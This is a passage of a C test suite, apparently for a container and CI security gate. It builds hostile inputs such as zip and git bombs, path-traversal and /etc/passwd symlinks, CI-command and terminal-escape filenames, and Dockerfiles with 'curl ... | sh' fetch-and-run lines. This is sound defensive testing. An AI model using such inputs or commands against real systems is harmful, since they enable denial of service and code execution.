/*
 * check_hostile.c: hostile input against every reader of the real binary.
 *
 * A security gate runs on untrusted pull requests and untrusted images, so
 * each case here is an attack or an accident: archive entries escaping the
 * root, decompression bombs, YAML bombs, absurd Dockerfiles, corrupt
 * databases, policies of the wrong shape, lying git objects, commands
 * hidden from the RUN rules.  The cases are testdata/hostile/cases (name,
 * exit code, allowed outputs, command, expected message); text inputs are
 * committed beside it, binary and very large ones are written here at test
 * time (through build/mkimage and the library), never committed.
 *
 * Every case runs `shipgate` in a child with resource limits (CPU seconds,
 * file size, and address space outside sanitizer builds), a wall-clock
 * timeout, and HOME/XDG pointing into its own directory, then asserts:
 *   - it ended by itself, with the documented exit code of that case
 *     (never a signal, never a timeout);
 *   - its output says what went wrong (the case's message);
 *   - nothing was written but the declared output files: the input tree is
 *     unchanged and the work directory holds only the outputs.
 */
#include "util/compat.h"
#include "helpers.h"

#include <archive.h>
#include <archive_entry.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <git2.h>
#include <openssl/evp.h>

#include "shipgate/vulndb.h"
#include "util/buf.h"
#include "util/fs.h"
#include "util/sha256.h"

#define MB (1024UL * 1024UL)

struct hcase {
	const char *name;
	const char *argv[16];     /* "@in" and "@out" are replaced by the dirs */
	const char *stdin_from;   /* "<PATH" in the command; else /dev/null */
	int exit;                 /* the documented exit code this input gets */
	const char *needle;       /* expected in stdout or stderr: what went wrong */
	const char *outputs[3];   /* files allowed in the work dir afterwards */
};

/* ---- writing inputs ----------------------------------------------------- */

static void put(const char *dir, const char *name, const void *data, size_t len)
{
	char path[4300];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	f = fopen(path, "wb");
	ck_assert_msg(f != NULL, "cannot write %s", path);
	ck_assert_uint_eq(fwrite(data, 1, len, f), len);
	fclose(f);
}

static void puts_file(const char *dir, const char *name, const char *text)
{
	put(dir, name, text, strlen(text));
}

/* dir/name made a FIFO with no writer: a reader that opens it for data
 * would wait for ever (or, through a non-blocking open, read nothing). */
static void fifo(const char *dir, const char *name)
{
	char path[4400];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	ck_assert_int_eq(mkfifo(path, 0600), 0);
}

static void put_buf(const char *dir, const char *name, struct sg_buf *b)
{
	ck_assert_int_eq(sg_buf_error(b), 0);
	put(dir, name, b->ptr ? b->ptr : "", b->len);
	sg_buf_release(b);
}

static void sub(const char *dir, const char *name, char *out, size_t size)
{
	if ((size_t)snprintf(out, size, "%s/%s", dir, name) >= size)
		ck_abort_msg("path too long: %s/%s", dir, name);
	mkdir(out, 0755);
}

/* Deterministic noise (xorshift), so a failure reproduces. */
static void noise(unsigned char *p, size_t n, uint64_t seed)
{
	while (n--) {
		seed ^= seed << 13;
		seed ^= seed >> 7;
		seed ^= seed << 17;
		*p++ = (unsigned char)seed;
	}
}

static void mkimage(const char *spec, const char *out, const char *const *opts)
{
	const char *argv[16];
	size_t n = 0;
	char *err = NULL;
	int rc;

	while (opts && *opts)
		argv[n++] = *opts++;
	argv[n++] = t_src(spec);
	argv[n++] = out;
	argv[n] = NULL;
	rc = t_run_prog(getenv("SG_MKIMAGE") ? getenv("SG_MKIMAGE")
					     : "build/mkimage",
			NULL, NULL, &err, argv);
	ck_assert_msg(rc == 0, "mkimage %s: %s", spec, err ? err : "");
	free(err);
}

/* ---- Dockerfiles ---------------------------------------------------------- */

static void gen_df_long_line(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(2 * MB);
	size_t i;

	sg_buf_puts(&b, "FROM alpine:3.20\nRUN echo ");
	for (i = 0; i < 1000000; i++)
		sg_buf_putc(&b, 'a');
	sg_buf_puts(&b, "\nUSER nobody\n");
	put_buf(in, "Dockerfile", &b);
}

static void gen_df_continuations(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(2 * MB);
	size_t i;

	sg_buf_puts(&b, "FROM alpine:3.20\nRUN echo \\\n");
	for (i = 0; i < 100000; i++)
		sg_buf_puts(&b, "a \\\n");
	sg_buf_puts(&b, "b\nUSER nobody\n");
	put_buf(in, "Dockerfile", &b);
}

static void gen_df_deep_shell(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(2 * MB);
	size_t i;

	/* 16,000 levels of ( $( in a 48 KB line: the shell model's limit,
	 * not the line length, has to stop it (no "$((": that would be
	 * arithmetic) */
	sg_buf_puts(&b, "FROM alpine:3.20\nRUN ");
	for (i = 0; i < 8000; i++)
		sg_buf_puts(&b, "($( ");
	for (i = 0; i < 8000; i++)
		sg_buf_puts(&b, "))");
	sg_buf_puts(&b, "\nUSER nobody\n");
	put_buf(in, "Dockerfile", &b);
}

static void gen_df_binary(const char *in)
{
	unsigned char *p = malloc(256 * 1024);

	noise(p, 256 * 1024, 0x5eed);
	put(in, "Dockerfile", p, 256 * 1024);
	free(p);
}

static void gen_df_many(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(2 * MB);
	size_t i;

	sg_buf_puts(&b, "FROM alpine:3.20 AS s0\n");
	for (i = 1; i < 30000; i++)
		sg_buf_printf(&b, "FROM s%zu AS s%zu\n", i - 1, i);
	sg_buf_puts(&b, "USER nobody\n");
	put_buf(in, "Dockerfile", &b);
}

static void gen_df_over_cap(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(4 * MB);
	size_t i;

	sg_buf_puts(&b, "FROM alpine:3.20\n");
	for (i = 0; i < 200000; i++)
		sg_buf_puts(&b, "LABEL a=b\n");
	put_buf(in, "Dockerfile", &b);
}

static void gen_df_nul(const char *in)
{
	static const char df[] = "FROM alpine\0:3.20\nRUN echo \0\0\n"
				 "USER no\0body\n";

	put(in, "Dockerfile", df, sizeof(df) - 1);
}

/* ---- Compose -------------------------------------------------------------- */

static void gen_yaml_deep(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(MB);
	int i;

	sg_buf_puts(&b, "services:\n  web:\n    image: nginx:1.27\n    labels: ");
	for (i = 0; i < 10000; i++)
		sg_buf_putc(&b, '[');
	for (i = 0; i < 10000; i++)
		sg_buf_putc(&b, ']');
	sg_buf_putc(&b, '\n');
	put_buf(in, "compose.yaml", &b);
}

static void gen_yaml_utf8(const char *in)
{
	puts_file(in, "compose.yaml",
		  "services:\n  web:\n    image: \"nginx:\xff\xfe\xc0\xaf\"\n");
}

static void gen_compose_interp(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(2 * MB);
	int i;

	/* nested defaults 5,000 deep, and an unterminated one */
	sg_buf_puts(&b, "services:\n  web:\n    image: \"");
	for (i = 0; i < 5000; i++)
		sg_buf_puts(&b, "${V:-");
	for (i = 0; i < 5000; i++)
		sg_buf_putc(&b, '}');
	sg_buf_puts(&b, "\"\n    user: \"${U:-${W\"\n");
	put_buf(in, "compose.yaml", &b);
}

static void gen_compose_many(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(2 * MB);
	int i;

	/* 20,000 services in about 1 MB: every lookup must stay cheap */
	sg_buf_puts(&b, "services:\n");
	for (i = 0; i < 20000; i++)
		sg_buf_printf(&b, "  s%d:\n    image: nginx:1.27\n", i);
	put_buf(in, "compose.yaml", &b);
}

/* ---- vulnerability database ------------------------------------------------ */

static void gen_db_corrupt(const char *in)
{
	unsigned char p[65536];

	noise(p, sizeof(p), 42);
	memcpy(p, "SQLite format 3", 16);   /* a header, then garbage */
	put(in, "vuln.db", p, sizeof(p));
}

static void gen_img_clean(const char *in);

static void gen_db_corrupt_img(const char *in)
{
	gen_db_corrupt(in);
	gen_img_clean(in);
}

static void gen_db_truncated(const char *in)
{
	char db[4300], osv[4300];
	const char *src[1] = { osv };
	struct sg_buf b = SG_BUF_INIT(64 * MB);
	sg_error err;
	int i;

	snprintf(osv, sizeof(osv), "%s/osv", in);
	mkdir(osv, 0755);
	for (i = 0; i < 200; i++) {
		char name[64], body[600];

		snprintf(name, sizeof(name), "GHSA-%04d.json", i);
		snprintf(body, sizeof(body),
			 "{\"id\": \"GHSA-%04d\", \"modified\": \"2024-01-01T00:00:00Z\","
			 "\"affected\": [{\"package\": {\"ecosystem\": \"npm\", "
			 "\"name\": \"p%d\"}, \"ranges\": [{\"type\": \"SEMVER\", "
			 "\"events\": [{\"introduced\": \"0\"}, {\"fixed\": \"1.%d.0\"}]}]}]}",
			 i, i, i);
		puts_file(osv, name, body);
	}
	snprintf(db, sizeof(db), "%s/vuln.db", in);
	sg_error_clear(&err);
	ck_assert_msg(sg_vulndb_import(db, src, 1, NULL, NULL, NULL, &err) == 0,
		      "%s", err.message);
	ck_assert_int_eq(sg_read_file(db, b.max, &b, &err), 0);
	b.len /= 2;             /* cut the database in half */
	put_buf(in, "vuln.db", &b);
}

static void gen_osv_absurd(const char *in)
{
	struct sg_buf b = SG_BUF_INIT(16 * MB);
	int i;

	sg_buf_puts(&b, "{\"id\": \"OSV-ABSURD\", \"modified\": \"2024-01-01T00:00:00Z\","
		       "\"affected\": [{\"package\": {\"ecosystem\": \"Debian:12\", "
		       "\"name\": \"bash\"}, \"ranges\": [{\"type\": \"ECOSYSTEM\", "
		       "\"events\": [");
	for (i = 0; i < 20000; i++)
		sg_buf_printf(&b, "%s{\"%s\": \"%d:%0200d-%d~~~^^\"}", i ? "," : "",
			      i % 2 ? "fixed" : "introduced", i, i, i);
	sg_buf_puts(&b, ", {\"limit\": \"*\"}, {\"last_affected\": \"\"}]}], "
		       "\"versions\": [");
	for (i = 0; i < 50000; i++)
		sg_buf_printf(&b, "%s\"%d\"", i ? "," : "", i);
	sg_buf_puts(&b, "]}]}\n");
	put_buf(in, "absurd.json", &b);
}

static void gen_osv_zipbomb(const char *in)
{
	char path[4300];
	struct archive *a = archive_write_new();
	struct archive_entry *e = archive_entry_new();
	static char zeros[1 << 16];
	int i;

	snprintf(path, sizeof(path), "%s/bomb.zip", in);
	archive_write_set_format_zip(a);
	ck_assert_int_eq(archive_write_open_filename(a, path), ARCHIVE_OK);
	archive_entry_set_pathname(e, "GHSA-bomb.json");
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	archive_entry_set_size(e, (la_int64_t)(1024 * MB));
	archive_write_header(a, e);
	/* 1 GiB of zeros deflates to about 1 MiB */
	for (i = 0; i < 16384; i++)
		archive_write_data(a, zeros, sizeof(zeros));
	archive_entry_free(e);
	archive_write_close(a);
	archive_write_free(a);
}

/* ---- images ----------------------------------------------------------------- */

#define IMG(name, spec, ...)                                             \
	static void name(const char *in)                                 \
	{                                                                \
		const char *o[] = { __VA_ARGS__, NULL };                 \
		char out[4300];                                          \
                                                                         \
		snprintf(out, sizeof(out), "%s/img.tar", in);            \
		mkimage(spec, out, o[0] ? o : NULL);                     \
	}

IMG(gen_img_clean, "testdata/image/clean/image.spec", NULL)
IMG(gen_img_escape, "testdata/image/hostile/image.spec", NULL)
IMG(gen_img_link_outside, "testdata/image/clean/image.spec", "--format", "skopeo", "--hostile", "link-outside")
IMG(gen_img_gzip_bomb, "testdata/image/bomb/image.spec", "--format", "oci-archive", "--compress", "gzip")
IMG(gen_img_zstd_bomb, "testdata/image/bomb/image.spec", "--format", "oci-archive", "--compress", "zstd")
IMG(gen_img_outer_bomb, "testdata/image/bomb/image.spec", "--outer", "gzip")
IMG(gen_img_truncated, "testdata/image/clean/image.spec", "--hostile", "truncate")
IMG(gen_img_bad_diffid, "testdata/image/clean/image.spec", "--hostile", "bad-diffid")
IMG(gen_img_bad_blob, "testdata/image/clean/image.spec", "--format", "oci-archive", "--hostile", "bad-blob")
IMG(gen_img_outside, "testdata/image/clean/image.spec", "--format", "docker", "--hostile", "outside")
IMG(gen_img_self, "testdata/image/clean/image.spec", "--format", "docker", "--hostile", "self")
IMG(gen_img_layers, "testdata/image/clean/image.spec", "--hostile", "layers=10000")
IMG(gen_img_bad_config, "testdata/image/clean/image.spec", "--hostile", "bad-config")
IMG(gen_img_no_diffids, "testdata/image/clean/image.spec", "--hostile", "no-diffids")

/* An OCI layout whose largest blob (a layer) is a FIFO: opening it must not
 * wait for a writer. */
static void gen_img_layout_fifo(const char *in)
{
	char out[4300], dir[4400], path[4700], big[300] = "";
	const char *o[] = { "--format", "oci-dir", NULL };
	off_t most = -1;
	struct dirent *de;
	struct stat st;
	DIR *d;

	snprintf(out, sizeof(out), "%s/img.tar", in);
	mkimage("testdata/image/clean/image.spec", out, o);
	snprintf(dir, sizeof(dir), "%s/blobs/sha256", out);
	d = opendir(dir);
	ck_assert_ptr_nonnull(d);
	while ((de = readdir(d))) {
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (de->d_name[0] != '.' && stat(path, &st) == 0 &&
		    st.st_size > most) {
			most = st.st_size;
			snprintf(big, sizeof(big), "%s", de->d_name);
		}
	}
	closedir(d);
	ck_assert(big[0]);
	snprintf(path, sizeof(path), "%s/%s", dir, big);
	ck_assert_int_eq(unlink(path), 0);
	fifo(dir, big);
}

/* --policy names a FIFO with no writer: read as the empty file it is (the
 * defaults), not waited on. */
static void gen_policy_fifo(const char *in)
{
	puts_file(in, "Dockerfile", "FROM alpine:3.20\n");
	fifo(in, "policy.yaml");
}

/* The image path is a FIFO with no writer: the open must not wait. */
static void gen_img_fifo_path(const char *in)
{
	fifo(in, "img.tar");
}

static void gen_img_noise(const char *in)
{
	unsigned char *p = malloc(MB);

	noise(p, MB, 7);
	put(in, "img.tar", p, MB);
	free(p);
}

static void gen_img_empty(const char *in)
{
	put(in, "img.tar", "", 0);
}

static void gen_img_not_layout(const char *in)
{
	char d[4300];

	sub(in, "img.tar", d, sizeof(d));
	puts_file(d, "index.json", "{\"schemaVersion\": 2, \"manifests\": "
				   "[{\"digest\": \"sha256:../../../etc/passwd\"}]}");
	puts_file(d, "oci-layout", "{\"imageLayoutVersion\": \"1.0.0\"}");
}

/* ---- git repositories ------------------------------------------------------- */

static void build_repo(const char *in, const char *tree_dir)
{
	char dest[4300];
	const char *dirs[] = { tree_dir, NULL };

	snprintf(dest, sizeof(dest), "%s/repo", in);
	t_mkrepo(dest, false, dirs);
}

/*
 * A zlib stream of one stored (uncompressed) deflate block: git's loose
 * object encoding, written by hand so the test needs no zlib.
 */
static size_t zlib_stored(const unsigned char *in, size_t n, unsigned char *out)
{
	uint32_t a = 1, b = 0;
	size_t i, o = 0;

	out[o++] = 0x78;
	out[o++] = 0x01;
	out[o++] = 0x01;                /* final block, stored */
	out[o++] = (unsigned char)(n & 0xff);
	out[o++] = (unsigned char)(n >> 8);
	out[o++] = (unsigned char)(~n & 0xff);
	out[o++] = (unsigned char)((~n >> 8) & 0xff);
	for (i = 0; i < n; i++) {
		out[o++] = in[i];
		a = (a + in[i]) % 65521;
		b = (b + a) % 65521;
	}
	out[o++] = (unsigned char)(b >> 8);
	out[o++] = (unsigned char)b;
	out[o++] = (unsigned char)(a >> 8);
	out[o++] = (unsigned char)a;
	return o;
}

/* Replace a loose object's content, keeping its name: a lying object. */
static void write_loose(const char *repo, const char *hex, const char *header,
			const void *body, size_t blen)
{
	char dir[4300], path[4400];
	unsigned char raw[1024], z[2048];
	size_t zlen, hlen = strlen(header) + 1;

	ck_assert_uint_le(hlen + blen, sizeof(raw));
	memcpy(raw, header, hlen);
	memcpy(raw + hlen, body, blen);
	zlen = zlib_stored(raw, hlen + blen, z);
	snprintf(dir, sizeof(dir), "%s/.git/objects/%.2s", repo, hex);
	mkdir(dir, 0755);
	snprintf(path, sizeof(path), "%s/%s", dir, hex + 2);
	chmod(path, 0644);
	put(dir, hex + 2, z, zlen);
}

/* A committed Dockerfile that is a link to a file of another name. */
static void gen_git_dockerfile_link(const char *in)
{
	char tree[4300], p[4400];

	sub(in, "tree", tree, sizeof(tree));
	snprintf(p, sizeof(p), "%s/build", tree);
	mkdir(p, 0755);
	snprintf(p, sizeof(p), "%s/build", tree);
	puts_file(p, "app.df", "FROM alpine:3.20\n"
		  "RUN curl -fsSL https://example.com/i.sh | sh\nUSER nobody\n");
	snprintf(p, sizeof(p), "%s/Dockerfile", tree);
	ck_assert_int_eq(symlink("build/app.df", p), 0);
	build_repo(in, tree);
}

/* The id git gives `data` as a blob, in hex. */
static void blob_id(const char *data, char hex[41])
{
	char header[64];
	unsigned char d[20];
	EVP_MD_CTX *ctx;

	snprintf(header, sizeof(header), "blob %zu", strlen(data));
	ctx = EVP_MD_CTX_new();
	EVP_DigestInit_ex(ctx, EVP_sha1(), NULL);
	EVP_DigestUpdate(ctx, header, strlen(header) + 1);
	EVP_DigestUpdate(ctx, data, strlen(data));
	EVP_DigestFinal_ex(ctx, d, NULL);
	EVP_MD_CTX_free(ctx);
	sg_hex(d, 20, hex);
}

static void gen_git_huge_blob(const char *in)
{
	char tree[4300], repo[4300], hex[41];
	static const char df[] = "FROM alpine:3.20\nUSER nobody\n";

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "Dockerfile", df);
	build_repo(in, tree);
	snprintf(repo, sizeof(repo), "%s/repo", in);
	blob_id(df, hex);
	/* the blob now claims 2 GiB */
	write_loose(repo, hex, "blob 2147483648", "FROM", 4);
}

static void gen_git_tree_cycle(const char *in)
{
	char tree[4300], repo[4300], d[4300], hex[41];
	char body[64];
	unsigned char raw[20];
	size_t i;

	sub(in, "tree", tree, sizeof(tree));
	sub(tree, "sub", d, sizeof(d));
	puts_file(d, "Dockerfile", "FROM alpine:3.20\nUSER nobody\n");
	build_repo(in, tree);
	snprintf(repo, sizeof(repo), "%s/repo", in);
	/* sub/'s tree id, through libgit2 */
	{
		git_repository *r = NULL;
		git_object *o = NULL;

		git_libgit2_init();
		ck_assert_int_eq(git_repository_open(&r, repo), 0);
		ck_assert_int_eq(git_revparse_single(&o, r, "HEAD:sub"), 0);
		git_oid_tostr(hex, sizeof(hex), git_object_id(o));
		git_object_free(o);
		git_repository_free(r);
		git_libgit2_shutdown();
	}
	/* rewrite sub/ as a tree whose only entry is itself */
	for (i = 0; i < 20; i++) {
		unsigned int v;
		char two[3] = { hex[2 * i], hex[2 * i + 1], 0 };

		v = (unsigned int)strtoul(two, NULL, 16);
		raw[i] = (unsigned char)v;
	}
	memcpy(body, "40000 loop", 10);
	body[10] = '\0';
	memcpy(body + 11, raw, 20);
	{
		char header[32];

		snprintf(header, sizeof(header), "tree %d", 31);
		write_loose(repo, hex, header, body, 31);
	}
}

/* ---- git objects, written with libgit2 ---------------------------------- */

/* The repository the generators built in `in`/repo, opened with libgit2. */
static git_repository *open_in(const char *in)
{
	char repo[4300];
	git_repository *r = NULL;

	snprintf(repo, sizeof(repo), "%s/repo", in);
	git_libgit2_init();
	ck_assert_int_eq(git_repository_open(&r, repo), 0);
	return r;
}

static void close_in(git_repository *r)
{
	git_repository_free(r);
	git_libgit2_shutdown();
}

/* A tree of `n` entries <stem>0..<stem>n-1, each `id` with `mode`. */
static void fan_tree(git_repository *r, const git_oid *id, git_filemode_t mode,
		     int n, const char *stem, git_oid *out)
{
	git_treebuilder *tb = NULL;
	char name[32];
	int i;

	ck_assert_int_eq(git_treebuilder_new(&tb, r, NULL), 0);
	for (i = 0; i < n; i++) {
		snprintf(name, sizeof(name), "%s%d", stem, i);
		ck_assert_int_eq(git_treebuilder_insert(NULL, tb, name, id,
							mode), 0);
	}
	ck_assert_int_eq(git_treebuilder_write(out, tb), 0);
	git_treebuilder_free(tb);
}

/* A tree of the NULL-terminated (name, id, mode) triples in `ents`. */
struct ent {
	const char *name;
	const git_oid *id;
	git_filemode_t mode;
};

static void tree_of(git_repository *r, const struct ent *ents, git_oid *out)
{
	git_treebuilder *tb = NULL;

	ck_assert_int_eq(git_treebuilder_new(&tb, r, NULL), 0);
	for (; ents->name; ents++)
		ck_assert_int_eq(git_treebuilder_insert(NULL, tb, ents->name,
							ents->id, ents->mode),
				 0);
	ck_assert_int_eq(git_treebuilder_write(out, tb), 0);
	git_treebuilder_free(tb);
}

static void commit_on_head(git_repository *r, const git_oid *tree_id)
{
	git_object *head = NULL;
	git_signature *sig = NULL;
	git_tree *t = NULL;
	git_oid commit;

	ck_assert_int_eq(git_tree_lookup(&t, r, tree_id), 0);
	ck_assert_int_eq(git_revparse_single(&head, r, "HEAD"), 0);
	ck_assert_int_eq(git_signature_new(&sig, "t", "t@example.com",
					   1700000000, 0), 0);
	ck_assert_int_eq(git_commit_create_v(&commit, r, "HEAD", sig, sig, NULL,
					     "generated", t, 1, head), 0);
	git_signature_free(sig);
	git_object_free(head);
	git_tree_free(t);
}

/*
 * A "git bomb": seven trees that each list the one below ten times, so
 * twelve objects describe 10^7 Dockerfiles; the walk must stop at its
 * entry cap, not visit them all.  Committed on top of a valid commit.
 */
static void gen_git_tree_bomb(const char *in)
{
	char tree[4300];
	git_repository *r;
	git_oid blob, id;
	int level;

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "README", "bomb\n");
	build_repo(in, tree);
	r = open_in(in);
	ck_assert_int_eq(git_blob_create_from_buffer(&blob, r, "FROM alpine:3.20\n",
						     17), 0);
	tree_of(r, (const struct ent[]){
			   { "Dockerfile", &blob, GIT_FILEMODE_BLOB },
			   { NULL, NULL, 0 } }, &id);
	for (level = 1; level <= 7; level++)
		fan_tree(r, &id, GIT_FILEMODE_TREE, 10, "d", &id);
	commit_on_head(r, &id);
	close_in(r);
}

/* ---- pull requests: the base is read too ------------------------------------ */

/* A directory named as a CI runner's command: the summary line must not
 * start with it. */
static void gen_git_command_dir(const char *in)
{
	char tree[4300], d[4300];

	sub(in, "tree", tree, sizeof(tree));
	sub(tree, "::error::fooled", d, sizeof(d));
	puts_file(d, "Dockerfile", "FROM alpine:3.20\n"
		  "RUN curl -fsSL https://example.com/i | sh\nUSER nobody\n");
	build_repo(in, tree);
}

/* A tree object written as is: libgit2's tree builder refuses these names. */
static void raw_tree(git_repository *r, const struct ent *ents, git_oid *out)
{
	unsigned char body[1024];
	git_odb *odb = NULL;
	size_t n = 0;

	for (; ents->name; ents++) {
		n += (size_t)snprintf((char *)body + n, sizeof(body) - n, "%o %s",
				      (unsigned int)ents->mode, ents->name) + 1;
		ck_assert_uint_le(n + 20, sizeof(body));
		memcpy(body + n, ents->id->id, 20);
		n += 20;
	}
	ck_assert_int_eq(git_repository_odb(&odb, r), 0);
	ck_assert_int_eq(git_odb_write(out, odb, body, n, GIT_OBJECT_TREE), 0);
	git_odb_free(odb);
}

/*
 * A commit whose directory `dir` has an entry named `name` holding a
 * Dockerfile that downloads and runs a script, beside a harmless
 * Dockerfile.  Joined with '/', "sub/../Dockerfile" would name the harmless
 * one; git refuses to check such a name out.
 */
static void commit_bad_name(const char *in, const char *dir, const char *name)
{
	static const char ok[] = "FROM alpine:3.20\nUSER nobody\n";
	static const char evil[] = "FROM alpine:3.20\n"
				   "RUN curl -fsSL https://example.com/i | sh\n";
	char tree[4300];
	git_repository *r;
	git_oid okb, evilb, inner, mid, root;

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "README", "names\n");
	build_repo(in, tree);
	r = open_in(in);
	ck_assert_int_eq(git_blob_create_from_buffer(&okb, r, ok,
						     sizeof(ok) - 1), 0);
	ck_assert_int_eq(git_blob_create_from_buffer(&evilb, r, evil,
						     sizeof(evil) - 1), 0);
	tree_of(r, (const struct ent[]){
			   { "Dockerfile", &evilb, GIT_FILEMODE_BLOB },
			   { NULL, NULL, 0 } }, &inner);
	raw_tree(r, (const struct ent[]){
			    { name, &inner, GIT_FILEMODE_TREE },
			    { NULL, NULL, 0 } }, &mid);
	raw_tree(r, (const struct ent[]){
			    { "Dockerfile", &okb, GIT_FILEMODE_BLOB },
			    { dir, &mid, GIT_FILEMODE_TREE },
			    { NULL, NULL, 0 } }, &root);
	commit_on_head(r, &root);
	close_in(r);
}

static void gen_git_dotdot_entry(const char *in)
{
	commit_bad_name(in, "sub", "..");
}

/* The names hold a line that a CI runner would read as a command and a
 * terminal's clear-screen: the error quotes them escaped. */
static void gen_git_control_names(const char *in)
{
	commit_bad_name(in, "sub\n::error::fooled", "x\033[2J/y");
}

/* The head of a pull request on top of HEAD: one Dockerfile (whose tree
 * must be none of the generators' trees: the cycle rewrites one). */
static void commit_plain_head(const char *in)
{
	static const char df[] = "FROM alpine:3.20\nUSER head\n";
	git_repository *r = open_in(in);
	git_oid blob, tree;

	ck_assert_int_eq(git_blob_create_from_buffer(&blob, r, df,
						     sizeof(df) - 1), 0);
	tree_of(r, (const struct ent[]){
			   { "Dockerfile", &blob, GIT_FILEMODE_BLOB },
			   { NULL, NULL, 0 } }, &tree);
	commit_on_head(r, &tree);
	close_in(r);
}

/* The base of the pull request holds a tree that contains itself. */
static void gen_git_pr_base_cycle(const char *in)
{
	gen_git_tree_cycle(in);
	commit_plain_head(in);
}

/* The base of the pull request is a git bomb. */
static void gen_git_pr_base_bomb(const char *in)
{
	gen_git_tree_bomb(in);
	commit_plain_head(in);
}

/* A tree of `n` files f0..f<n-1> of distinct content, each ~6 KiB (large
 * enough for libgit2 to compare: it skips tiny files). */
static void distinct_tree(git_repository *r, const char *word, int n,
			  git_oid *out)
{
	struct sg_buf b = SG_BUF_INIT(MB);
	git_treebuilder *tb = NULL;
	char name[32];
	git_oid id;
	int i, k;

	ck_assert_int_eq(git_treebuilder_new(&tb, r, NULL), 0);
	for (i = 0; i < n; i++) {
		sg_buf_clear(&b);
		for (k = 0; k < 200; k++)
			sg_buf_printf(&b, "%s line %d of file %d\n", word, k, i);
		ck_assert_int_eq(git_blob_create_from_buffer(&id, r, b.ptr,
							     b.len), 0);
		snprintf(name, sizeof(name), "f%d", i);
		ck_assert_int_eq(git_treebuilder_insert(NULL, tb, name, &id,
							GIT_FILEMODE_BLOB), 0);
	}
	ck_assert_int_eq(git_treebuilder_write(out, tb), 0);
	git_treebuilder_free(tb);
	sg_buf_release(&b);
}

/*
 * A pull request that deletes 11,001 files and adds 11,001 others and
 * moves a Dockerfile as it is.  Each side is 10,000 paths of one blob
 * (fanned out by shared trees) and 1,001 distinct files: comparing every
 * added file with every deleted one would take minutes, and 1,002 x 1,002
 * distinct blobs are past git's rename limit, so the run says it did not
 * look for renames with edits.  The move must still be found: under `gate:
 * new` the Dockerfile's findings are unchanged and nothing gates.
 */
static void gen_git_pr_rename_flood(const char *in)
{
	static const char df[] = "FROM alpine:3.20\n";   /* no USER: high */
	static const char pol[] = "gate: new\n";
	static const char *const word[2] = { "deleted", "added" };
	char tree[4300];
	git_repository *r;
	git_oid one, dfb, polb, t, svc, side[2], base, head;
	int k;

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "README", "flood\n");
	build_repo(in, tree);
	r = open_in(in);
	for (k = 0; k < 2; k++) {
		struct sg_buf b = SG_BUF_INIT(MB);
		git_oid many, distinct;
		int i;

		for (i = 0; i < 200; i++)
			sg_buf_printf(&b, "line %d of the one %s blob\n", i,
				      word[k]);
		ck_assert_int_eq(git_blob_create_from_buffer(&one, r, b.ptr,
							     b.len), 0);
		sg_buf_release(&b);
		fan_tree(r, &one, GIT_FILEMODE_BLOB, 100, "f", &t);
		fan_tree(r, &t, GIT_FILEMODE_TREE, 100, "d", &many);
		distinct_tree(r, word[k], 1001, &distinct);
		tree_of(r, (const struct ent[]){
				   { "distinct", &distinct, GIT_FILEMODE_TREE },
				   { "many", &many, GIT_FILEMODE_TREE },
				   { NULL, NULL, 0 } }, &side[k]);
	}
	ck_assert_int_eq(git_blob_create_from_buffer(&dfb, r, df,
						     sizeof(df) - 1), 0);
	ck_assert_int_eq(git_blob_create_from_buffer(&polb, r, pol,
						     sizeof(pol) - 1), 0);
	tree_of(r, (const struct ent[]){
			   { "Dockerfile", &dfb, GIT_FILEMODE_BLOB },
			   { NULL, NULL, 0 } }, &svc);
	tree_of(r, (const struct ent[]){
			   { ".shipgate.yaml", &polb, GIT_FILEMODE_BLOB },
			   { "old", &side[0], GIT_FILEMODE_TREE },
			   { "svc", &svc, GIT_FILEMODE_TREE },
			   { NULL, NULL, 0 } }, &base);
	tree_of(r, (const struct ent[]){
			   { ".shipgate.yaml", &polb, GIT_FILEMODE_BLOB },
			   { "moved", &svc, GIT_FILEMODE_TREE },
			   { "new", &side[1], GIT_FILEMODE_TREE },
			   { NULL, NULL, 0 } }, &head);
	commit_on_head(r, &base);
	commit_on_head(r, &head);
	close_in(r);
}

static void gen_git_not_repo(const char *in)
{
	puts_file(in, "repo", "not a repository\n");
}

static void gen_worktree_links(const char *in)
{
	char repo[4300], tree[4300], p[4400], q[4400];

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "README", "x\n");
	build_repo(in, tree);
	snprintf(repo, sizeof(repo), "%s/repo", in);
	snprintf(p, sizeof(p), "%s/a", repo);
	snprintf(q, sizeof(q), "%s/b", repo);
	ck_assert_int_eq(symlink("b", p), 0);
	ck_assert_int_eq(symlink("a", q), 0);
	snprintf(p, sizeof(p), "%s/Dockerfile", repo);
	ck_assert_int_eq(symlink("/etc/passwd", p), 0);
	snprintf(p, sizeof(p), "%s/compose.yaml", repo);
	ck_assert_int_eq(symlink("../../../../../../etc/hostname", p), 0);
	snprintf(p, sizeof(p), "%s/loop", repo);
	ck_assert_int_eq(symlink(".", p), 0);
}

/*
 * A work tree whose Compose services build from a FIFO (a read must not
 * wait for a writer), through a link that leaves the tree, through an
 * absolute link back inside it, and from a path that climbs out.
 */
static void gen_worktree_fifo(const char *in)
{
	char tree[4300], p[4400], q[4400];

	sub(in, "tree", tree, sizeof(tree));
	puts_file(tree, "compose.yaml",
		  "services:\n"
		  "  a:\n"
		  "    build: { context: ., dockerfile: pipe }\n"
		  "  b:\n"
		  "    build: { context: out }\n"
		  "  c:\n"
		  "    build: { context: abs }\n"
		  "  d:\n"
		  "    build: { context: ., dockerfile: ../../etc/passwd }\n");
	sub(tree, "sub", p, sizeof(p));
